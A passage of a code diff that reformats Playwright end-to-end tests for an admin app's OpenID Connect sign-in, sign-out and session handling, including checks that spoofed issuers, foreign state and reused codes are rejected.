@@ -16,69 +16,76 @@ import {
   urls,
 } from './product.ts';
 
-test('AUTH-01, 03, 04, 05, 06, 07, 11, 16, 24: sign-in through the provider, registered once, then notifications', async ({ page }) => {
-  const calls: { url: string; authorization: string | undefined; body: string | null }[] = [];
-  page.on(
-    'request',
-    (request) =>
-      request.url().startsWith(urls.adminUrl) &&
-      !request.url().includes('/assets/') &&
-      calls.push({ url: request.url(), authorization: request.headers()['authorization'], body: request.postData() }),
-  );
-  const userInfo = page.waitForRequest(`${urls.issuer}/me`);
-  await page.goto(`${urls.adminUrl}/login`);
-  await expect(page.locator('input')).toHaveCount(0);
-  await signIn(page, 'admin');
-  expect((await userInfo).headers()['authorization']).toMatch(/^Bearer /);
-  await expect(page).toHaveURL(/\/notification$/);
-  await expect(page.getByRole('button', { name: 'Account: Anna Wójcik' }).locator('img')).toHaveAttribute('src', /^data:image/);
-  await page.reload();
-  await expect(page.getByRole('heading', { name: 'Powiadomienia' })).toBeVisible();
-  const registered = calls.filter((call) => call.url.endsWith('/session/register-login'));
-  expect(registered).toHaveLength(1);
-  expect(registered[0]?.body).toBeNull();
-  for (const call of calls.filter(({ url }) => /\/(api|session)\//.test(url))) expect(call.authorization).toMatch(/^Bearer /);
-});
+test(
+  'sign-in through the provider, registered once, then notifications',
+  { tag: ['@AUTH-01', '@AUTH-03', '@AUTH-04', '@AUTH-05', '@AUTH-06', '@AUTH-07', '@AUTH-11', '@AUTH-16', '@AUTH-24'] },
+  async ({ page }) => {
+    const calls: { url: string; authorization: string | undefined; body: string | null }[] = [];
+    page.on(
+      'request',
+      (request) =>
+        request.url().startsWith(urls.adminUrl) &&
+        !request.url().includes('/assets/') &&
+        calls.push({ url: request.url(), authorization: request.headers()['authorization'], body: request.postData() }),
+    );
+    const userInfo = page.waitForRequest(`${urls.issuer}/me`);
+    await page.goto(`${urls.adminUrl}/login`);
+    await expect(page.locator('input')).toHaveCount(0);
+    await signIn(page, 'admin');
+    expect((await userInfo).headers()['authorization']).toMatch(/^Bearer /);
+    await expect(page).toHaveURL(/\/notification$/);
+    await expect(page.getByRole('button', { name: 'Account: Anna Wójcik' }).locator('img')).toHaveAttribute('src', /^data:image/);
+    await page.reload();
+    await expect(page.getByRole('heading', { name: 'Powiadomienia' })).toBeVisible();
+    const registered = calls.filter((call) => call.url.endsWith('/session/register-login'));
+    expect(registered).toHaveLength(1);
+    expect(registered[0]?.body).toBeNull();
+    for (const call of calls.filter(({ url }) => /\/(api|session)\//.test(url))) expect(call.authorization).toMatch(/^Bearer /);
+  },
+);
 
 for (const [language, title, begin] of [
   ['pl', 'Logowanie w piaskownicy', 'Na dobry początek'],
   ['en', 'Sandbox sign-in', 'To begin with'],
 ] as const)
-  test(`GEN-13, NFR-04, ux 24: the provider is asked in the language of the page; the sandbox's says what to try first (${language})`, async ({
-    page,
-    context,
-  }) => {
-    await speak(page, language);
-    await page.goto(`${urls.adminUrl}/login`);
-    await page.getByRole('button', { name: /^(Log In|Zaloguj się)$/ }).click();
-    await expect(page.getByRole('heading', { level: 1 })).toHaveText(title);
-    await expect(page.getByRole('heading', { level: 2 })).toHaveText(begin);
-    await expectPresentable(page, `sandbox-sign-in-${language}`);
-    const opened = context.waitForEvent('page');
-    await page.getByRole('link', { name: /telefon|phone/ }).click();
-    await expect(await opened).toHaveURL(`${urls.phoneUrl}/`);
-  });
+  test(
+    `the provider is asked in the language of the page; the sandbox's says what to try first (${language})`,
+    { tag: ['@GEN-13', '@NFR-04', '@ux-24'] },
+    async ({ page, context }) => {
+      await speak(page, language);
+      await page.goto(`${urls.adminUrl}/login`);
+      await page.getByRole('button', { name: /^(Log In|Zaloguj się)$/ }).click();
+      await expect(page.getByRole('heading', { level: 1 })).toHaveText(title);
+      await expect(page.getByRole('heading', { level: 2 })).toHaveText(begin);
+      await expectPresentable(page, `sandbox-sign-in-${language}`);
+      const opened = context.waitForEvent('page');
+      await page.getByRole('link', { name: /telefon|phone/ }).click();
+      await expect(await opened).toHaveURL(`${urls.phoneUrl}/`);
+    },
+  );
 
-test('AUTH-23: without a picture there is a placeholder', async ({ page }) => {
+test('without a picture there is a placeholder', { tag: ['@AUTH-23'] }, async ({ page }) => {
   await signIn(page, 'staff-2');
   await expect(page.getByRole('button', { name: 'Account: Łucja Dąbrowska' }).locator('svg')).toBeVisible();
 });
 
-test('AUTH-15, NAV-01, 02, 27, 29, A-14: without a session every path leads to /login, with one unknown paths to the list', async ({
-  page,
-}) => {
-  for (const path of ['/', '/notification', '/notification/new', '/notification/abc', '/content', '/settings', '/nothing/here']) {
-    await page.goto(urls.adminUrl + path);
-    await expect(page).toHaveURL(/\/login/);
-  }
-  await signIn(page, 'admin');
-  for (const path of ['/', '/nothing/here', '/chart']) {
-    await page.goto(urls.adminUrl + path);
-    await expect(page).toHaveURL(/\/notification$/);
-  }
-});
+test(
+  'without a session every path leads to /login, with one unknown paths to the list',
+  { tag: ['@AUTH-15', '@NAV-01', '@NAV-02', '@NAV-27', '@NAV-29', '@A-14'] },
+  async ({ page }) => {
+    for (const path of ['/', '/notification', '/notification/new', '/notification/abc', '/content', '/settings', '/nothing/here']) {
+      await page.goto(urls.adminUrl + path);
+      await expect(page).toHaveURL(/\/login/);
+    }
+    await signIn(page, 'admin');
+    for (const path of ['/', '/nothing/here', '/chart']) {
+      await page.goto(urls.adminUrl + path);
+      await expect(page).toHaveURL(/\/notification$/);
+    }
+  },
+);
 
-test('A14: after sign-in one lands where one wanted to go, and nowhere else', async ({ page }) => {
+test('after sign-in one lands where one wanted to go, and nowhere else', { tag: ['@A14'] }, async ({ page }) => {
   await page.goto(`${urls.adminUrl}/notification/new`);
   await page.getByRole('button', { name: 'Log In' }).click();
   await page.locator('button[value="staff-1"]').click();
@@ -90,7 +97,7 @@ test('A14: after sign-in one lands where one wanted to go, and nowhere else', as
   await expect(page).toHaveURL(`${urls.adminUrl}/notification`);
 });
 
-test('A15: where to go is checked again when the answer comes, whatever became of it in the meantime', async ({ page }) => {
+test('where to go is checked again when the answer comes, whatever became of it in the meantime', { tag: ['@A15'] }, async ({ page }) => {
   await page.goto(`${urls.adminUrl}/notification/new`);
   await page.addInitScript(() => {
     if (location.pathname !== '/login/callback') return;
@@ -109,7 +116,7 @@ test('A15: where to go is checked again when the answer comes, whatever became o
   expect(await page.evaluate(() => sessionStorage.getItem('tampered'))).toBe('yes');
 });
 
-test('AUTH-22, A16: a cancelled sign-in comes back with a readable message and no session', async ({ page }) => {
+test('a cancelled sign-in comes back with a readable message and no session', { tag: ['@AUTH-22', '@A16'] }, async ({ page }) => {
   await page.goto(`${urls.adminUrl}/login`);
   await page.getByRole('button', { name: 'Log In' }).click();
   await page.getByRole('button', { name: 'Cancel' }).click();
@@ -119,7 +126,7 @@ test('AUTH-22, A16: a cancelled sign-in comes back with a readable message and n
   await expect(page.getByRole('alert')).toHaveText('Sign-in failed. Please try again.');
 });
 
-test('AUTH-19, A10, A11: a foreign state, and an answer used twice, begin no session', async ({ page }) => {
+test('a foreign state, and an answer used twice, begin no session', { tag: ['@AUTH-19', '@A10', '@A11'] }, async ({ page }) => {
   await page.goto(`${urls.adminUrl}/login/callback?code=stolen&state=foreign`);
   await expect(page).toHaveURL(/problem=failed/);
   let callback = '';
@@ -130,7 +137,7 @@ test('AUTH-19, A10, A11: a foreign state, and an answer used twice, begin no ses
   await expect(page).toHaveURL(/problem=failed/);
 });
 
-test('AUTH-19, A12: an answer with another nonce begins no session', async ({ page }) => {
+test('an answer with another nonce begins no session', { tag: ['@AUTH-19', '@A12'] }, async ({ page }) => {
   await page.route(`${urls.issuer}/auth?**`, (route) =>
     route.continue({
       url: route
@@ -157,7 +164,7 @@ const noSession = async (page: Page): Promise<void> => {
   expect(await page.evaluate(() => localStorage.getItem('endcap.session'))).toBeNull();
 };
 
-test('D-11, A12, A13: an ID token of another issuer, client or time begins no session', async ({ page }) => {
+test('an ID token of another issuer, client or time begins no session', { tag: ['@D-11', '@A12', '@A13'] }, async ({ page }) => {
   const now = Math.floor(Date.now() / 1000);
   const wrong = [{ iss: 'https://evil.example' }, { aud: 'another-client' }, { exp: now - 600 }, null];
   let change: object | null = null;
@@ -179,7 +186,7 @@ test('D-11, A12, A13: an ID token of another issuer, client or time begins no se
   await signIn(page, 'staff-1');
 });
 
-test('D-11, A13: discovery of another issuer asks nobody for anything', async ({ page }) => {
+test('discovery of another issuer asks nobody for anything', { tag: ['@D-11', '@A13'] }, async ({ page }) => {
   await page.route('**/.well-known/openid-configuration', async (route) => {
     const response = await route.fetch();
     await route.fulfill({ response, json: { ...(await response.json()), issuer: 'https://evil.example' } });
@@ -190,7 +197,7 @@ test('D-11, A13: discovery of another issuer asks nobody for anything', async ({
   await expect(page).toHaveURL(`${urls.adminUrl}/login`);
 });
 
-test('D-11, A13: an answer that another issuer gave is refused before the code leaves (RFC 9207)', async ({ page }) => {
+test('an answer that another issuer gave is refused before the code leaves (RFC 9207)', { tag: ['@D-11', '@A13'] }, async ({ page }) => {
   const asked: string[] = [];
   page.on('request', (request) => request.url() === `${urls.issuer}/token` && asked.push(request.method()));
   for (const iss of ['iss=https%3A%2F%2Fevil.example', '']) {
@@ -207,130 +214,143 @@ test('D-11, A13: an answer that another issuer gave is refused before the code l
   expect(asked).toContain('POST');
 });
 
-test('AUTH-02, 17, 25, TOP-09, 10, A-09, A19, A24: signing out ends it here, at the provider, in other tabs and for the token', async ({
-  page,
-  context,
-}) => {
-  await signIn(page, 'admin');
-  const token = await page.evaluate<string>(() => JSON.parse(localStorage.getItem('endcap.session') ?? '{}').accessToken);
-  const other = await context.newPage();
-  await other.goto(`${urls.adminUrl}/notification`);
-  await expect(other.getByRole('heading', { name: 'Powiadomienia' })).toBeVisible();
-  await expect(page.getByRole('button', { name: 'Log out', exact: true })).toBeVisible();
-  // Whoever hears first that the token is worth nothing any more: it is no session that ended by itself.
-  await page.route('**/logout', async (route) => {
-    await route.fetch();
-    await route.fulfill({ status: 401, json: {} });
-  });
-  await page.getByRole('button', { name: /^Account/ }).click();
-  await page.getByRole('menuitem', { name: 'Sign out' }).click();
-  // By way of the provider, so not yet the address that a mere end of session leads to.
-  await page.waitForURL(`${urls.adminUrl}/login`);
-  await expect(other).toHaveURL(/\/login/);
-  await expect(other.getByText('Your session ended')).toHaveCount(0);
-  await expectLeftWithout(page, /session|store/);
-  expect((await fetch(`${urls.adminUrl}/api/v1/notification-editor/list`, { headers: { authorization: `Bearer ${token}` } })).status).toBe(
-    401,
-  );
-  await page.goBack();
-  await expect(page.getByRole('heading', { name: 'Powiadomienia' })).toHaveCount(0);
-  await page.goto(`${urls.adminUrl}/login`);
-  await page.getByRole('button', { name: 'Log In' }).click();
-  await expect(page.locator('button[value="admin"]')).toBeVisible();
-});
+test(
+  'signing out ends it here, at the provider, in other tabs and for the token',
+  { tag: ['@AUTH-02', '@AUTH-17', '@AUTH-25', '@TOP-09', '@TOP-10', '@A-09', '@A19', '@A24'] },
+  async ({ page, context }) => {
+    await signIn(page, 'admin');
+    const token = await page.evaluate<string>(() => JSON.parse(localStorage.getItem('endcap.session') ?? '{}').accessToken);
+    const other = await context.newPage();
+    await other.goto(`${urls.adminUrl}/notification`);
+    await expect(other.getByRole('heading', { name: 'Powiadomienia' })).toBeVisible();
+    await expect(page.getByRole('button', { name: 'Log out', exact: true })).toBeVisible();
+    // Whoever hears first that the token is worth nothing any more: it is no session that ended by itself.
+    await page.route('**/logout', async (route) => {
+      await route.fetch();
+      await route.fulfill({ status: 401, json: {} });
+    });
+    await page.getByRole('button', { name: /^Account/ }).click();
+    await page.getByRole('menuitem', { name: 'Sign out' }).click();
+    // By way of the provider, so not yet the address that a mere end of session leads to.
+    await page.waitForURL(`${urls.adminUrl}/login`);
+    await expect(other).toHaveURL(/\/login/);
+    await expect(other.getByText('Your session ended')).toHaveCount(0);
+    await expectLeftWithout(page, /session|store/);
+    expect(
+      (await fetch(`${urls.adminUrl}/api/v1/notification-editor/list`, { headers: { authorization: `Bearer ${token}` } })).status,
+    ).toBe(401);
+    await page.goBack();
+    await expect(page.getByRole('heading', { name: 'Powiadomienia' })).toHaveCount(0);
+    await page.goto(`${urls.adminUrl}/login`);
+    await page.getByRole('button', { name: 'Log In' }).click();
+    await expect(page.locator('button[value="admin"]')).toBeVisible();
+  },
+);
 
-test('AUTH-17, A-09: where the provider cannot be told of a sign-out the page says so, and tells it once it answers', async ({ page }) => {
-  await speak(page, 'en');
-  await signIn(page, 'admin');
-  await page.reload();
-  await page.getByRole('button', { name: /^Account/ }).click();
-  await page.route('**/.well-known/openid-configuration', (route) => route.abort());
-  await page.getByRole('menuitem', { name: 'Sign out' }).click();
-  const alert = page.getByRole('alert');
-  await expect(alert).toContainText('the next person would enter this account without a password');
-  await expectLeftWithout(page, /session|store/);
-  await expectPresentable(page, 'sign-out-untold');
-  const again = page.getByRole('button', { name: 'Sign out there too' });
-  await again.click();
-  await expect(alert).toContainText('The sign-in service does not answer');
-  // Whoever tries to sign in meanwhile reads it still.
-  await page.getByRole('button', { name: 'Log In' }).click();
-  await expect(page.getByRole('button', { name: 'Log In' })).toBeEnabled();
-  await expect(again).toBeVisible();
-  await page.unroute('**/.well-known/openid-configuration');
-  await again.click();
-  await page.waitForURL(`${urls.adminUrl}/login`);
-  await expect(alert).toHaveCount(0);
-  await page.getByRole('button', { name: 'Log In' }).click();
-  await expect(page.locator('button[value="admin"]')).toBeVisible();
-});
+test(
+  'where the provider cannot be told of a sign-out the page says so, and tells it once it answers',
+  { tag: ['@AUTH-17', '@A-09'] },
+  async ({ page }) => {
+    await speak(page, 'en');
+    await signIn(page, 'admin');
+    await page.reload();
+    await page.getByRole('button', { name: /^Account/ }).click();
+    await page.route('**/.well-known/openid-configuration', (route) => route.abort());
+    await page.getByRole('menuitem', { name: 'Sign out' }).click();
+    const alert = page.getByRole('alert');
+    await expect(alert).toContainText('the next person would enter this account without a password');
+    await expectLeftWithout(page, /session|store/);
+    await expectPresentable(page, 'sign-out-untold');
+    const again = page.getByRole('button', { name: 'Sign out there too' });
+    await again.click();
+    await expect(alert).toContainText('The sign-in service does not answer');
+    // Whoever tries to sign in meanwhile reads it still.
+    await page.getByRole('button', { name: 'Log In' }).click();
+    await expect(page.getByRole('button', { name: 'Log In' })).toBeEnabled();
+    await expect(again).toBeVisible();
+    await page.unroute('**/.well-known/openid-configuration');
+    await again.click();
+    await page.waitForURL(`${urls.adminUrl}/login`);
+    await expect(alert).toHaveCount(0);
+    await page.getByRole('button', { name: 'Log In' }).click();
+    await expect(page.locator('button[value="admin"]')).toBeVisible();
+  },
+);
 
-test('AUTH-12, 13, STATE-13: an expired token ends the session on load and while the page is open', async ({ page }) => {
-  await signIn(page, 'staff-1');
-  const expireIn = (ms: number) =>
-    page.evaluate(
-      (left) =>
-        localStorage.setItem(
-          'endcap.session',
-          JSON.stringify({ ...JSON.parse(localStorage.getItem('endcap.session') ?? '{}'), expiresAt: Date.now() + left }),
-        ),
-      ms,
-    );
-  // By the page's own clock: a busy machine may take longer to show a page than a session lasts that a test waits for.
-  await page.clock.install();
-  await expireIn(120_000);
-  await page.reload();
-  await expect(page.getByRole('heading', { name: 'Powiadomienia' })).toBeVisible();
-  await page.clock.fastForward(120_000);
-  await expect(page).toHaveURL(/\/login/);
-  await forgetEverything(page);
-  await signIn(page, 'staff-1');
-  await expireIn(-1);
-  await page.reload();
-  await expect(page).toHaveURL(/\/login/);
-  expect(await page.evaluate(() => localStorage.getItem('endcap.session'))).toBeNull();
-  await expect(page.getByText('Your session ended.')).toBeVisible();
-});
+test(
+  'an expired token ends the session on load and while the page is open',
+  { tag: ['@AUTH-12', '@AUTH-13', '@STATE-13'] },
+  async ({ page }) => {
+    await signIn(page, 'staff-1');
+    const expireIn = (ms: number) =>
+      page.evaluate(
+        (left) =>
+          localStorage.setItem(
+            'endcap.session',
+            JSON.stringify({ ...JSON.parse(localStorage.getItem('endcap.session') ?? '{}'), expiresAt: Date.now() + left }),
+          ),
+        ms,
+      );
+    // By the page's own clock: a busy machine may take longer to show a page than a session lasts that a test waits for.
+    await page.clock.install();
+    await expireIn(120_000);
+    await page.reload();
+    await expect(page.getByRole('heading', { name: 'Powiadomienia' })).toBeVisible();
+    await page.clock.fastForward(120_000);
+    await expect(page).toHaveURL(/\/login/);
+    await forgetEverything(page);
+    await signIn(page, 'staff-1');
+    await expireIn(-1);
+    await page.reload();
+    await expect(page).toHaveURL(/\/login/);
+    expect(await page.evaluate(() => localStorage.getItem('endcap.session'))).toBeNull();
+    await expect(page.getByText('Your session ended.')).toBeVisible();
+  },
+);
 
-test('D-53, AUTH-13: an ended session says so, keeps the form to the last letter, and the same place opens with it', async ({ page }) => {
-  await signIn(page, 'admin');
-  await page.goto(`${urls.adminUrl}/store/new`);
-  const name = page.getByRole('textbox', { name: 'Name' });
-  const city = page.getByRole('textbox', { name: 'City' });
-  await name.fill('Koszyk Przerwany');
-  // The last letters are typed in the very moment in which the end is learned of, and for as long as the form is still there.
-  const typed = await city.evaluate(async (field: HTMLInputElement) => {
-    let text = 'Sop';
-    const type = (): void => {
-      Object.getOwnPropertyDescriptor(HTMLInputElement.prototype, 'value')?.set?.call(field, text);
-      field.dispatchEvent(new Event('input', { bubbles: true }));
-    };
-    type();
-    localStorage.removeItem('endcap.session');
-    dispatchEvent(new StorageEvent('storage', { key: 'endcap.session' }));
-    for (let n = 0; field.isConnected && n < 10_000; n += 1) {
-      text += 'o';
+test(
+  'an ended session says so, keeps the form to the last letter, and the same place opens with it',
+  { tag: ['@D-53', '@AUTH-13'] },
+  async ({ page }) => {
+    await signIn(page, 'admin');
+    await page.goto(`${urls.adminUrl}/store/new`);
+    const name = page.getByRole('textbox', { name: 'Name' });
+    const city = page.getByRole('textbox', { name: 'City' });
+    await name.fill('Koszyk Przerwany');
+    // The last letters are typed in the very moment in which the end is learned of, and for as long as the form is still there.
+    const typed = await city.evaluate(async (field: HTMLInputElement) => {
+      let text = 'Sop';
+      const type = (): void => {
+        Object.getOwnPropertyDescriptor(HTMLInputElement.prototype, 'value')?.set?.call(field, text);
+        field.dispatchEvent(new Event('input', { bubbles: true }));
+      };
       type();
-      await new Promise((resolve) => setTimeout(resolve));
-    }
-    return text;
-  });
-  await expect(page).toHaveURL(/\/login\?.*problem=ended/);
-  await expect(page.getByRole('status').filter({ hasText: 'Your session ended.' })).toBeVisible();
-  await expect(page.getByRole('button', { name: 'Log In' })).toBeVisible();
-  await expectAccessible(page);
-  await expect(page.getByText('Koszyk Przerwany')).toHaveCount(0);
-  await page.getByRole('button', { name: 'Log In' }).click();
-  const person = page.locator('button[value="admin"]');
-  await expect(person.or(name)).toBeVisible();
-  if (await person.isVisible()) await person.click();
-  await expect(page).toHaveURL(`${urls.adminUrl}/store/new`);
-  await expect(name).toHaveValue('Koszyk Przerwany');
-  await expect(city).toHaveValue(typed);
-  await expect(page.getByRole('button', { name: 'Restore' })).toHaveCount(0);
-});
+      localStorage.removeItem('endcap.session');
+      dispatchEvent(new StorageEvent('storage', { key: 'endcap.session' }));
+      for (let n = 0; field.isConnected && n < 10_000; n += 1) {
+        text += 'o';
+        type();
+        await new Promise((resolve) => setTimeout(resolve));
+      }
+      return text;
+    });
+    await expect(page).toHaveURL(/\/login\?.*problem=ended/);
+    await expect(page.getByRole('status').filter({ hasText: 'Your session ended.' })).toBeVisible();
+    await expect(page.getByRole('button', { name: 'Log In' })).toBeVisible();
+    await expectAccessible(page);
+    await expect(page.getByText('Koszyk Przerwany')).toHaveCount(0);
+    await page.getByRole('button', { name: 'Log In' }).click();
+    const person = page.locator('button[value="admin"]');
+    await expect(person.or(name)).toBeVisible();
+    if (await person.isVisible()) await person.click();
+    await expect(page).toHaveURL(`${urls.adminUrl}/store/new`);
+    await expect(name).toHaveValue('Koszyk Przerwany');
+    await expect(city).toHaveValue(typed);
+    await expect(page.getByRole('button', { name: 'Restore' })).toHaveCount(0);
+  },
+);
 
-test('D-53: whoever signs in again in another tab goes on in this one where they were', async ({ page, context }) => {
+test('whoever signs in again in another tab goes on in this one where they were', { tag: ['@D-53'] }, async ({ page, context }) => {
   await openAs(page, 'admin', `${urls.adminUrl}/store-group/new`);
   await page.getByRole('textbox', { name: 'Name' }).fill('Grupa przerwana');
   await endSession(page);
@@ -341,49 +361,51 @@ test('D-53: whoever signs in again in another tab goes on in this one where they
   await expect(page.getByRole('textbox', { name: 'Name' })).toHaveValue('Grupa przerwana');
 });
 
-test('ux 9: what a full storage does not take is not called kept; copies that nobody came back for give way to a sign-in, the oldest first', async ({
-  page,
-}) => {
-  await openAs(page, 'admin', `${urls.adminUrl}/store-group/new`);
-  const name = page.getByRole('textbox', { name: 'Name' });
-  const kept = page.getByText(/^Draft kept at/);
-  await name.fill('Grupa');
-  await expect(kept).toBeVisible();
-  // What many years of long texts come to, to the brim.
-  await page
-    .evaluate(() => {
-      let savedAt = 0;
-      for (let size = 400_000; size >= 1; size = Math.floor(size / 10))
-        for (let isFull = false; !isFull;) {
-          savedAt += 1;
-          const copy = JSON.stringify({ form: { text: 'x'.repeat(size) }, base: {}, tag: null, savedAt });
-          try {
-            localStorage.setItem(`endcap.draft.someone/content/${savedAt}`, copy);
-          } catch {
-            isFull = true;
+test(
+  'what a full storage does not take is not called kept; copies that nobody came back for give way to a sign-in, the oldest first',
+  { tag: ['@ux-9'] },
+  async ({ page }) => {
+    await openAs(page, 'admin', `${urls.adminUrl}/store-group/new`);
+    const name = page.getByRole('textbox', { name: 'Name' });
+    const kept = page.getByText(/^Draft kept at/);
+    await name.fill('Grupa');
+    await expect(kept).toBeVisible();
+    // What many years of long texts come to, to the brim.
+    await page
+      .evaluate(() => {
+        let savedAt = 0;
+        for (let size = 400_000; size >= 1; size = Math.floor(size / 10))
+          for (let isFull = false; !isFull;) {
+            savedAt += 1;
+            const copy = JSON.stringify({ form: { text: 'x'.repeat(size) }, base: {}, tag: null, savedAt });
+            try {
+              localStorage.setItem(`endcap.draft.someone/content/${savedAt}`, copy);
+            } catch {
+              isFull = true;
+            }
           }
-        }
-      // The session's own room is taken as well.
-      localStorage.setItem('endcap.draft.someone/content/last', localStorage.getItem('endcap.session') ?? '');
-    })
-    .catch(() => {});
-  await name.fill(`Grupa ${'w pełnym '.repeat(15)}schowku`);
-  await expect(kept).toHaveCount(0);
-  await endSession(page);
-  await page
-    .evaluate(() => {
-      for (let n = 0; n < 10_000; n += 1) localStorage.setItem(`endcap.draft.someone/content/more${n}`, '{"savedAt":1}');
-    })
-    .catch(() => {});
-  await page.getByRole('button', { name: 'Log In' }).click();
-  await page.locator('button[value="admin"]').click();
-  await expect(page).toHaveURL(`${urls.adminUrl}/store-group/new`);
-  const left = await page.evaluate(() => Object.keys(localStorage).filter((key) => key.startsWith('endcap.draft.someone/')));
-  expect(left).not.toContain('endcap.draft.someone/content/1');
-  expect(left.length).toBeGreaterThan(5);
-  await name.fill(`Grupa ${'w pełnym '.repeat(15)}schowku`);
-  await expect(kept).toBeVisible();
-});
+        // The session's own room is taken as well.
+        localStorage.setItem('endcap.draft.someone/content/last', localStorage.getItem('endcap.session') ?? '');
+      })
+      .catch(() => {});
+    await name.fill(`Grupa ${'w pełnym '.repeat(15)}schowku`);
+    await expect(kept).toHaveCount(0);
+    await endSession(page);
+    await page
+      .evaluate(() => {
+        for (let n = 0; n < 10_000; n += 1) localStorage.setItem(`endcap.draft.someone/content/more${n}`, '{"savedAt":1}');
+      })
+      .catch(() => {});
+    await page.getByRole('button', { name: 'Log In' }).click();
+    await page.locator('button[value="admin"]').click();
+    await expect(page).toHaveURL(`${urls.adminUrl}/store-group/new`);
+    const left = await page.evaluate(() => Object.keys(localStorage).filter((key) => key.startsWith('endcap.draft.someone/')));
+    expect(left).not.toContain('endcap.draft.someone/content/1');
+    expect(left.length).toBeGreaterThan(5);
+    await name.fill(`Grupa ${'w pełnym '.repeat(15)}schowku`);
+    await expect(kept).toBeVisible();
+  },
+);
 
 /** The page comes out of the browser's back/forward cache, where it heard of nothing: the session lies there now, or none since somebody signed out. */
 const comeBack = (page: Page, session: string | null): Promise<void> =>
@@ -399,99 +421,108 @@ const keptToken = (page: Page) =>
   page.evaluate<string | undefined>(() => JSON.parse(localStorage.getItem('endcap.session') ?? '{}').accessToken);
 const tokenIn = (session: string): string => JSON.parse(session).accessToken;
 
-test('AUTH-25, A24: a page out of the back/forward cache shows nothing of whoever signed out in another tab meanwhile', async ({
-  page,
-}) => {
-  await openAs(page, 'admin', `${urls.adminUrl}/store/new`);
-  await page.getByRole('textbox', { name: 'Name', exact: true }).fill('Koszyk Sprzed Wyjścia');
-  await comeBack(page, null);
-  await expect(page).toHaveURL(/\/login/);
-  await expect(page.getByRole('button', { name: 'Log In' })).toBeVisible();
-  await expect(page.getByText('Your session ended')).toHaveCount(0);
-});
+test(
+  'a page out of the back/forward cache shows nothing of whoever signed out in another tab meanwhile',
+  { tag: ['@AUTH-25', '@A24'] },
+  async ({ page }) => {
+    await openAs(page, 'admin', `${urls.adminUrl}/store/new`);
+    await page.getByRole('textbox', { name: 'Name', exact: true }).fill('Koszyk Sprzed Wyjścia');
+    await comeBack(page, null);
+    await expect(page).toHaveURL(/\/login/);
+    await expect(page.getByRole('button', { name: 'Log In' })).toBeVisible();
+    await expect(page.getByText('Your session ended')).toHaveCount(0);
+  },
+);
 
-test('AUTH-25, A24: where somebody else has signed in meanwhile, the page is theirs alone, and nobody is asked about what was typed', async ({
-  page,
-}) => {
-  const asked: string[] = [];
-  page.on('dialog', (question) => {
-    asked.push(question.type());
-    void question.accept();
-  });
-  const others = await sessionOf('staff-2');
-  await openAs(page, 'admin', `${urls.adminUrl}/store/new`);
-  await expect(page.getByRole('button', { name: 'Account: Anna Wójcik' })).toBeVisible();
-  await page.getByRole('textbox', { name: 'Name', exact: true }).fill('Koszyk Sprzed Zmiany');
-  await comeBack(page, others);
-  await expect(page.getByRole('button', { name: 'Account: Łucja Dąbrowska' })).toBeVisible();
-  await expect(page).toHaveURL(`${urls.adminUrl}/notification`);
-  await expect(page.getByRole('link', { name: 'Stores', exact: true })).toHaveCount(0);
-  expect(asked).toEqual([]);
-  expect(await keptToken(page)).toBe(tokenIn(others));
-});
+test(
+  'where somebody else has signed in meanwhile, the page is theirs alone, and nobody is asked about what was typed',
+  { tag: ['@AUTH-25', '@A24'] },
+  async ({ page }) => {
+    const asked: string[] = [];
+    page.on('dialog', (question) => {
+      asked.push(question.type());
+      void question.accept();
+    });
+    const others = await sessionOf('staff-2');
+    await openAs(page, 'admin', `${urls.adminUrl}/store/new`);
+    await expect(page.getByRole('button', { name: 'Account: Anna Wójcik' })).toBeVisible();
+    await page.getByRole('textbox', { name: 'Name', exact: true }).fill('Koszyk Sprzed Zmiany');
+    await comeBack(page, others);
+    await expect(page.getByRole('button', { name: 'Account: Łucja Dąbrowska' })).toBeVisible();
+    await expect(page).toHaveURL(`${urls.adminUrl}/notification`);
+    await expect(page.getByRole('link', { name: 'Stores', exact: true })).toHaveCount(0);
+    expect(asked).toEqual([]);
+    expect(await keptToken(page)).toBe(tokenIn(others));
+  },
+);
 
-test('AUTH-14, A24: a refused call ends the session of its own token, not that of whoever has signed in since', async ({ page }) => {
-  await openAs(page, 'admin');
-  let answer = (): void => {};
-  const held = new Promise<void>((resolve) => (answer = resolve));
-  await page.route('**/api/v1/store-group/list?**', async (route) => {
-    await held;
-    await route.fulfill({ status: 401, json: { error: { code: 'unauthenticated', message: '' } } });
-  });
-  const asked = page.waitForRequest('**/api/v1/store-group/list?**');
-  await page.getByRole('link', { name: 'Store Groups', exact: true }).click();
-  await asked;
-  const others = await sessionOf('staff-2');
-  // In another tab, of which this one was not told.
-  await page.evaluate((session) => localStorage.setItem('endcap.session', session), others);
-  answer();
-  await expect(page.getByRole('button', { name: 'Account: Łucja Dąbrowska' })).toBeVisible();
-  await expect(page).toHaveURL(`${urls.adminUrl}/notification`);
-  expect(await keptToken(page)).toBe(tokenIn(others));
-});
+test(
+  'a refused call ends the session of its own token, not that of whoever has signed in since',
+  { tag: ['@AUTH-14', '@A24'] },
+  async ({ page }) => {
+    await openAs(page, 'admin');
+    let answer = (): void => {};
+    const held = new Promise<void>((resolve) => (answer = resolve));
+    await page.route('**/api/v1/store-group/list?**', async (route) => {
+      await held;
+      await route.fulfill({ status: 401, json: { error: { code: 'unauthenticated', message: '' } } });
+    });
+    const asked = page.waitForRequest('**/api/v1/store-group/list?**');
+    await page.getByRole('link', { name: 'Store Groups', exact: true }).click();
+    await asked;
+    const others = await sessionOf('staff-2');
+    // In another tab, of which this one was not told.
+    await page.evaluate((session) => localStorage.setItem('endcap.session', session), others);
+    answer();
+    await expect(page.getByRole('button', { name: 'Account: Łucja Dąbrowska' })).toBeVisible();
+    await expect(page).toHaveURL(`${urls.adminUrl}/notification`);
+    expect(await keptToken(page)).toBe(tokenIn(others));
+  },
+);
 
-test('AUTH-25, A24: a sign-in that comes back where somebody else has signed in meanwhile is of whoever finished it, and one that is overtaken gives way', async ({
-  page,
-  context,
-}) => {
-  const mine = page.getByRole('button', { name: 'Account: Łucja Dąbrowska' });
-  await page.goto(`${urls.adminUrl}/login`);
-  await page.getByRole('button', { name: 'Log In' }).click();
-  await expect(page.locator('button[value="staff-2"]')).toBeVisible();
-  const other = await context.newPage();
-  await openAs(other, 'admin', `${urls.adminUrl}/store`);
-  await expect(other.getByRole('button', { name: 'Account: Anna Wójcik' })).toBeVisible();
-  await page.locator('button[value="staff-2"]').click();
-  for (const tab of [page, other]) {
-    await expect(tab.getByRole('button', { name: 'Account: Łucja Dąbrowska' })).toBeVisible();
-    await expect(tab).toHaveURL(`${urls.adminUrl}/notification`);
